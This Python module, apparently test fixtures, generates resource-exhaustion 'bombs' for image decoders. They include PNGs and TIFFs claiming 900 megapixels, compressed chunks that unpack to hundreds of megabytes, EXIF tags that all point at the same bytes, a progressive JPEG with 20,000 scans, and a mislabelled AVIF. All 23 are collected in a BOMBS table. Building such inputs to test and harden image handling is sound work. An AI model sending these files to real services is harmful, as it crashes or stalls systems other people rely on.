"""Files made to exhaust whoever reads them: few bytes that would become many, or that keep a loop busy for hours."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable
from io import BytesIO

from PIL import Image

MB = 1_000_000


def _small(kind: str, **options: object) -> bytes:
    out = BytesIO()
    Image.linear_gradient("L").resize((64, 40)).convert("RGB").save(out, kind, **options)
    return out.getvalue()


# --- PNG


def _chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def _header(width: int, height: int, depth: int = 8, colour: int = 2) -> bytes:
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))


def _zeros(count: int) -> bytes:
    packer = zlib.compressobj(9)
    return b"".join([packer.compress(bytes(MB)) for _ in range(count // MB)]) + packer.flush()


def png_of_size(width: int, height: int) -> bytes:
    return _header(width, height) + _chunk(b"IDAT", zlib.compress(bytes(1000))) + _chunk(b"IEND", b"")


def png_with_text() -> bytes:
    """Texts of 20 MB each when unpacked."""
    text = _chunk(b"zTXt", b"Comment\x00\x00" + _zeros(20 * MB))
    return _small("PNG")[:33] + 20 * text + _small("PNG")[33:]


def png_with_profile() -> bytes:
    """A colour profile of 200 MB when unpacked."""
    return _small("PNG")[:33] + _chunk(b"iCCP", b"x\x00\x00" + _zeros(200 * MB)) + _small("PNG")[33:]


def png_of_many_chunks() -> bytes:
    return _small("PNG")[:33] + 200_000 * _chunk(b"tEXt", b"a\x00b") + _small("PNG")[33:]


def png_with_exif() -> bytes:
    return _small("PNG")[:33] + _chunk(b"eXIf", exif()) + _small("PNG")[33:]


def png_that_unpacks_to_more() -> bytes:
    """Its rows are there, and 200 MB behind them."""
    return _header(64, 40) + _chunk(b"IDAT", _zeros(200 * MB)) + _chunk(b"IEND", b"")


# --- TIFF and EXIF


def exif(entries: int = 20_000, size: int = 200_000) -> bytes:
    """Tags that all point at the same bytes: unpacked it is 4 GB."""
    directory = b"".join(struct.pack("<HHII", 1000 + index, 7, size, 8) for index in range(entries))
    body = bytes(size)
    at = 8 + len(body)
    return b"II*\x00" + struct.pack("<I", at) + body + struct.pack("<H", entries) + directory + bytes(4)


def _tiff(entries: dict[int, tuple[int, int, int]], body: bytes = b"") -> bytes:
    directory = b"".join(
        struct.pack("<HHII", tag, kind, count, value) for tag, (kind, count, value) in sorted(entries.items())
    )
    return b"II*\x00" + struct.pack("<I", 8 + len(body)) + body + struct.pack("<H", len(entries)) + directory + bytes(4)


def _tiff_tags(width: int, height: int) -> dict[int, tuple[int, int, int]]:
    return {256: (4, 1, width), 257: (4, 1, height), 258: (3, 1, 8), 259: (3, 1, 8), 262: (3, 1, 1), 277: (3, 1, 1)}


def tiff_of_size(width: int, height: int) -> bytes:
    data = zlib.compress(bytes(1000))
    return _tiff(_tiff_tags(width, height) | {273: (4, 1, 8), 278: (4, 1, height), 279: (4, 1, len(data))}, data)


def tiff_with_tags() -> bytes:
    """60,000 tags that all point at the same half megabyte: 30 GB."""
    size = 500_000
    tags = _tiff_tags(64, 40) | {273: (4, 1, 8), 278: (4, 1, 40), 279: (4, 1, 100)}
    return _tiff(tags | dict.fromkeys(range(1000, 61000), (7, size, 8)), bytes(size))


def tiff_of_large_tiles() -> bytes:
    """64x40 px in one tile of 40,000x40,000."""
    data = zlib.compress(bytes(1000))
    tiles = {322: (4, 1, 40_000), 323: (4, 1, 40_000), 324: (4, 1, 8), 325: (4, 1, len(data))}
    return _tiff(_tiff_tags(64, 40) | tiles, data)


# --- JPEG


def _segment(marker: int, body: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(body) + 2) + body


def jpeg_of_size(width: int, height: int) -> bytes:
    data = _small("JPEG")
    at = data.index(b"\xff\xc0") + 5
    return data[:at] + struct.pack(">HH", height, width) + data[at + 4 :]


def jpeg_of_many_scans(width: int = 7000, height: int = 7000, scans: int = 20_000) -> bytes:
    """A progressive picture whose scans say nothing, each about every pixel."""
    quantisation = _segment(0xDB, bytes([0]) + bytes([1]) * 64)
    frame = _segment(0xC2, struct.pack(">BHHB", 8, height, width, 1) + bytes([1, 0x11, 0]))
    # Codes of one bit for "the rest of 32,767 blocks is empty", and for a DC of no difference.
    table = _segment(0xC4, bytes([0x10, 1]) + bytes(15) + bytes([0xE0]))
    dc_table = _segment(0xC4, bytes([0x00, 1]) + bytes(15) + bytes([0]))
    blocks = ((width + 7) // 8) * ((height + 7) // 8)
    runs = -(-blocks // 32_767)
    bits = "".join("0" + "1" * 14 for _ in range(runs))
    packed = (
        int(bits.ljust(-(-len(bits) // 8) * 8, "1"), 2)
        .to_bytes(-(-len(bits) // 8), "big")
        .replace(b"\xff", b"\xff\x00")
    )
    first = _segment(0xDA, bytes([1, 1, 0x00, 0, 0, 0x00])) + bytes(-(-blocks // 8))
    scan = _segment(0xDA, bytes([1, 1, 0x00, 1, 63, 0x00])) + packed
    return b"\xff\xd8" + quantisation + frame + table + dc_table + first + scans * scan + b"\xff\xd9"


def jpeg_with_exif() -> bytes:
    """The tags of exif, in as many segments as they need."""
    data, tags = _small("JPEG"), exif()
    parts = [tags[at : at + 65_000] for at in range(0, len(tags), 65_000)]
    return data[:2] + b"".join(_segment(0xE1, b"Exif\x00\x00" + part) for part in parts) + data[2:]


def jpeg_of_many_segments() -> bytes:
    data = _small("JPEG")
    return data[:2] + 300_000 * _segment(0xE1, b"Exif\x00\x00x") + data[2:]


def jpeg_of_much_filling() -> bytes:
    data = _small("JPEG")
    return data[:2] + bytes([0xFF]) * 10 * MB + data[2:]


def jpeg_with_profile() -> bytes:
    data = _small("JPEG")
    parts = [b"ICC_PROFILE\x00" + bytes([index + 1, 250]) + bytes(65_000) for index in range(250)]
    return data[:2] + b"".join(_segment(0xE2, part) for part in parts) + data[2:]


# --- the others


def avif_that_lies(width: int = 2000, height: int = 2000) -> bytes:
    """Its container says 64x40 px, the stream in it what is given."""
    out = BytesIO()
    Image.new("RGB", (width, height), "red").save(out, "AVIF", quality=30, speed=10)
    data = out.getvalue()
    at = data.index(b"ispe") + 8
    return data[:at] + struct.pack(">II", 64, 40) + data[at + 8 :]


def gif_of_size(width: int, height: int) -> bytes:
    data = bytearray(_small("GIF"))
    data[6:10] = struct.pack("<HH", width, height)
    at = data.index(b"\x2c") + 5
    data[at : at + 4] = struct.pack("<HH", width, height)
    return bytes(data)


def gif_of_many_comments() -> bytes:
    data = _small("GIF")
    at = data.index(b"\x2c", 13 + 3 * 2 ** ((data[10] & 7) + 1))
    return data[:at] + 300_000 * b"\x21\xfe\x01x\x00" + data[at:]


def gif_of_one_comment() -> bytes:
    data = _small("GIF")
    at = data.index(b"\x2c", 13 + 3 * 2 ** ((data[10] & 7) + 1))
    return data[:at] + b"\x21\xfe" + 60_000 * (b"\xff" + b"x" * 255) + b"\x00" + data[at:]


def gif_of_many_frames() -> bytes:
    frames = [Image.new("P", (500, 500), index % 250) for index in range(300)]
    out = BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:])
    return out.getvalue()


def webp_of_size(width: int, height: int) -> bytes:
    """An animation on a canvas of that size."""
    frame = _small("WEBP", lossless=True)[12:]
    canvas = struct.pack("<I", width - 1)[:3] + struct.pack("<I", height - 1)[:3]
    place = bytes(6) + struct.pack("<I", 63)[:3] + struct.pack("<I", 39)[:3] + struct.pack("<I", 100)[:3] + b"\x00"
    anmf = b"ANMF" + struct.pack("<I", len(place + frame)) + place + frame
    body = b"WEBP" + b"VP8X" + struct.pack("<I", 10) + b"\x02\x00\x00\x00" + canvas
    body += b"ANIM" + struct.pack("<I", 6) + bytes(6) + anmf + anmf
    return b"RIFF" + struct.pack("<I", len(body)) + body


def bmp_of_runs(width: int, height: int, body: bytes) -> bytes:
    """Eight bits a pixel, packed in runs."""
    header = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 8, 1, len(body), 1, 1, 256, 0)
    palette = bytes(1024)
    at = 14 + len(header) + len(palette)
    return b"BM" + struct.pack("<IHHI", at + len(body), 0, 0, at) + header + palette + body


def bmp_that_leaps() -> bytes:
    """One leap of 255 rows in a picture of 16 rows."""
    return bmp_of_runs(60_000, 16, b"\x00\x02\x00\xff" * 100)


def bmp_of_empty_lines() -> bytes:
    return bmp_of_runs(64, 40, b"\x00\x00" * 500_000)


BOMBS: dict[str, Callable[[], bytes]] = {
    "png of 900 megapixels": lambda: png_of_size(30_000, 30_000),
    "png with texts": png_with_text,
    "png with a profile": png_with_profile,
    "png of many chunks": png_of_many_chunks,
    "png with tags": png_with_exif,
    "png that unpacks to more": png_that_unpacks_to_more,
    "tiff of 900 megapixels": lambda: tiff_of_size(30_000, 30_000),
    "tiff with tags": tiff_with_tags,
    "tiff of large tiles": tiff_of_large_tiles,
    "jpeg of 4,000 megapixels": lambda: jpeg_of_size(65_500, 65_500),
    "jpeg of many scans": jpeg_of_many_scans,
    "jpeg with tags": jpeg_with_exif,
    "jpeg of many segments": jpeg_of_many_segments,
    "jpeg of much filling": jpeg_of_much_filling,
    "jpeg with a profile": jpeg_with_profile,
    "gif of 4,000 megapixels": lambda: gif_of_size(65_000, 65_000),
    "gif of many comments": gif_of_many_comments,
    "gif of one comment": gif_of_one_comment,
    "gif of many frames": gif_of_many_frames,
    "webp of 268 megapixels": lambda: webp_of_size(16_383, 16_383),
    "avif that lies": avif_that_lies,
    "bmp that leaps": bmp_that_leaps,
    "bmp of empty lines": bmp_of_empty_lines,
}
